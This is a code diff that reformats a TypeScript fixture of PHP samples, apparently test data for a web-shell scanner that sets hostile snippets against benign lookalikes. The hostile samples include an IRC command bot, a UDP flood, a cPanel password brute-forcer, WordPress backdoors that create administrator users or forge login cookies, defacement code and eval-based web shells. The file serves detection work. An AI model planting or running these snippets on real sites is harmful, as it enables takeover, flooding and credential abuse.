@@ -15,7 +15,9 @@ export const WILD: readonly Technique[] = [
       php(`$cmd = 'uptime'; system($cmd);`),
       php(`require 'settings.php'; exec($command);`),
       php(`function run($command) { return exec($command); }`),
-      php(`spl_autoload_register(function ($class) { $file = __DIR__ . "/$class.php"; if (is_file($file)) require $file; });`),
+      php(
+        `spl_autoload_register(function ($class) { $file = __DIR__ . "/$class.php"; if (is_file($file)) require $file; });`,
+      ),
     ],
   },
   {
@@ -56,12 +58,20 @@ export const WILD: readonly Technique[] = [
     name: 'bots and floods',
     severity: 'suspicious',
     samples: [
-      php(`$s = fsockopen('irc.example.net', 6667); fwrite($s, "NICK b\\r\\n"); while ($l = fgets($s)) { if (strpos($l, 'PING') === 0) fwrite($s, "PONG x\\r\\n"); $c = explode(' ', $l); fwrite($s, "PRIVMSG #c :" . shell_exec($c[4])); }`),
-      php(`while (1) { $f = fsockopen('udp://' . $_GET['host'], rand(1, 65000)); fwrite($f, str_repeat('X', 65000)); }`),
-      php(`foreach (explode("\\n", $_POST['l']) as $p) { $c = curl_init('http://localhost:2082'); curl_setopt($c, CURLOPT_USERPWD, "a:$p"); curl_exec($c); }`),
+      php(
+        `$s = fsockopen('irc.example.net', 6667); fwrite($s, "NICK b\\r\\n"); while ($l = fgets($s)) { if (strpos($l, 'PING') === 0) fwrite($s, "PONG x\\r\\n"); $c = explode(' ', $l); fwrite($s, "PRIVMSG #c :" . shell_exec($c[4])); }`,
+      ),
+      php(
+        `while (1) { $f = fsockopen('udp://' . $_GET['host'], rand(1, 65000)); fwrite($f, str_repeat('X', 65000)); }`,
+      ),
+      php(
+        `foreach (explode("\\n", $_POST['l']) as $p) { $c = curl_init('http://localhost:2082'); curl_setopt($c, CURLOPT_USERPWD, "a:$p"); curl_exec($c); }`,
+      ),
     ],
     honest: [
-      php(`$s = fsockopen('tls://smtp.example.com', 465); fwrite($s, "EHLO x\\r\\n"); while ($l = fgets($s)) { echo $l; }`),
+      php(
+        `$s = fsockopen('tls://smtp.example.com', 465); fwrite($s, "EHLO x\\r\\n"); while ($l = fgets($s)) { echo $l; }`,
+      ),
       php(`while (true) { $job = $queue->next(); if (!$job) break; sleep(rand(1, 3)); }`),
     ],
   },
@@ -69,8 +79,12 @@ export const WILD: readonly Technique[] = [
     name: 'doors for later',
     severity: 'suspicious',
     samples: [
-      php(`add_action('init', 'a'); function a() { if (md5($_GET['k']) == '5f4dcc3b5aa765d61d8327deb882cf99') { wp_set_auth_cookie(1); } }`),
-      php(`require('wp-blog-header.php'); $id = wp_create_user('sys', 'x'); $u = new WP_User($id); $u->set_role('administrator');`),
+      php(
+        `add_action('init', 'a'); function a() { if (md5($_GET['k']) == '5f4dcc3b5aa765d61d8327deb882cf99') { wp_set_auth_cookie(1); } }`,
+      ),
+      php(
+        `require('wp-blog-header.php'); $id = wp_create_user('sys', 'x'); $u = new WP_User($id); $u->set_role('administrator');`,
+      ),
       php(`foreach (scandir('.') as $d) if (is_dir($d)) file_put_contents("$d/i.html", '<h1>Hacked by someone</h1>');`),
       php(`file_put_contents('x.php', base64_decode('${base64('<?php eval($_POST[1]); ?>')}'));`),
     ],
@@ -87,7 +101,9 @@ export const WILD: readonly Technique[] = [
       php(`$ffi = FFI::cdef("int system(const char *c);"); $ffi->system($_GET['c']);`),
       php(`usort(...$_GET);`),
       php(`eval(next(getallheaders()));`),
-      php(`$x = new XSLTProcessor; $x->registerPHPFunctions(); $x->importStylesheet(simplexml_load_string($_POST['s']));`),
+      php(
+        `$x = new XSLTProcessor; $x->registerPHPFunctions(); $x->importStylesheet(simplexml_load_string($_POST['s']));`,
+      ),
       php(`iterator_apply(new ArrayIterator(array(1)), 'assert', array($_POST['x']));`),
       php(`@extract(exif_read_data('photo.jpg')); eval($Comment);`),
     ],
